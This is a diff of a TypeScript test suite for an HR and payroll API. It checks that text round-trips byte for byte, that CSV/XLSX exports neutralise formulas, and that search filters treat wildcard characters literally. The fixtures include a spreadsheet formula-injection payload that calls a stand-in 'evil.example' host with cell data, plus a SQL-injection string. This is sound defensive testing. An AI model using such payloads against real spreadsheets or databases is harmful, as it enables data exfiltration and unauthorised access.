@@ -13,7 +13,7 @@ import { exportFile, importFile, toldBy } from './spreadsheets.ts';
 const world = await startWorkforce({ after });
 const admin = await world.superUser();
 
-/** Each begins as a formula does, or a part of it where a program splits it, or looks as if it had been disarmed. */
+/** Texts that start like a formula, contain one after a delimiter, or look already escaped. */
 const FORMULAS = [
   '=1+1',
   '=HYPERLINK("http://evil.example?"&A1,"x")',
@@ -33,7 +33,7 @@ const FORMULAS = [
   "x;'=1\t''-2\n+3",
   'x;""@1"',
 ];
-/** What is blank to the eye is no name. */
+/** A name must contain a visible character. */
 const TEXTS = [
   ...NAUGHTY_TEXTS,
   ...FORMULAS,
@@ -54,10 +54,10 @@ const MINE = [
 ] as const;
 
 const longest = (field: keyof typeof OPTIONAL_TEXTS) => OPTIONAL_TEXTS[field];
-/** Names stand on one line, without control characters; other texts may have both. */
+/** Names are single-line without control characters; other texts may contain both. */
 const onOneLine = (text: string) => text.replaceAll(/[\p{Cc}\u2028\u2029]/gu, ' ').trim() || 'x';
 const NAMES: readonly string[] = ['first_name', 'last_name', 'middle_name'];
-/** An employee whose every text is the same, as far as the field takes it. */
+/** Returns an employee with the same text in every field, within the rules of each field. */
 const bodyOf = (text: string) => ({
   ...JUAN,
   ...Object.fromEntries(
@@ -71,7 +71,7 @@ const bodyOf = (text: string) => ({
 const textsOf = (one: Record<string, unknown>) =>
   ['first_name', 'last_name', ...MINE].map((field) => one[field]);
 
-test('contract: text comes back byte for byte from creating, showing, listing, changing and searching', async () => {
+test('contract: text is unchanged byte for byte after create, show, list, update and search', async () => {
   for (const text of TEXTS) {
     const body = bodyOf(text);
     const { id, ...made } = await hire(admin, body);
@@ -88,7 +88,7 @@ test('contract: text comes back byte for byte from creating, showing, listing, c
   }
 });
 
-test('contract: so it does from an export that is imported again, as CSV and as a workbook', async () => {
+test('contract: text is unchanged byte for byte after export and import, as CSV and as XLSX', async () => {
   const office = await world.organization('Of texts');
   for (const text of TEXTS) await hire(admin, { ...bodyOf(text), organization_id: office.id });
   const filter = `filter[organization_slug]=${office.slug}`;
@@ -111,7 +111,7 @@ test('contract: so it does from an export that is imported again, as CSV and as 
   }
 });
 
-test('W§4: no cell of an export begins as a formula does, whoever wrote it', async () => {
+test('W§4: no cell of an export starts like a formula, whoever wrote it', async () => {
   const office = await world.organization('=Office');
   const position = (await admin.post('/api/pms/positions', { name: '@Chief' })).body.data;
   for (const text of FORMULAS) {
@@ -134,7 +134,7 @@ test('W§4: no cell of an export begins as a formula does, whoever wrote it', as
   assert.ok(rows.flat().includes('=1+1'));
 });
 
-/** Lists with a filter for text, and how something with a name is put into each. */
+/** Lists with text filters, and the body that creates a record with a given name. */
 const LISTS: [path: string, filters: string[], body: (name: string) => object][] = [
   ['/api/organizations', ['search'], (name) => ({ name })],
   ['/api/roles', ['search'], (name) => ({ name, permissions: [] })],
@@ -166,7 +166,7 @@ async function foundBy(who: Person, path: string, filter: string, text: string):
   return body.data.map((one: { name?: string; last_name?: string }) => one.last_name ?? one.name).sort();
 }
 
-test('contract: percent sign, underscore and backslash in a filter match themselves and nothing else', async () => {
+test('contract: percent sign, underscore and backslash in a filter match only themselves', async () => {
   const names = ['ZxZ', 'Z%Z', 'Z_Z', 'Z\\Z', 'Z\\%Z', "Z'Z", 'Z％Z'];
   const wanted: [text: string, names: string[]][] = [
     ['Z%Z', ['Z%Z', 'Z％Z']],
@@ -181,7 +181,7 @@ test('contract: percent sign, underscore and backslash in a filter match themsel
     ["' or 1=1 --", []],
   ];
   for (const [path, filters, bodyFor] of LISTS) {
-    // Full-width characters are another spelling where names are unique; only employees may share one.
+    // Unique names treat full-width characters as equal; only employees and organizations may share a name.
     const own = path === EMPLOYEES || path === '/api/organizations' ? names : names.slice(0, -1);
     for (const name of own) {
       const reply = await admin.post(path, bodyFor(name));
@@ -197,7 +197,7 @@ test('contract: percent sign, underscore and backslash in a filter match themsel
   }
 });
 
-test('contract: a filter that is matched exactly is no pattern either', async () => {
+test('contract: an exact filter does not treat its value as a pattern', async () => {
   for (const path of [
     '/api/payroll/payroll_items?filter[category]=',
     '/api/payroll/runs?filter[status]=',
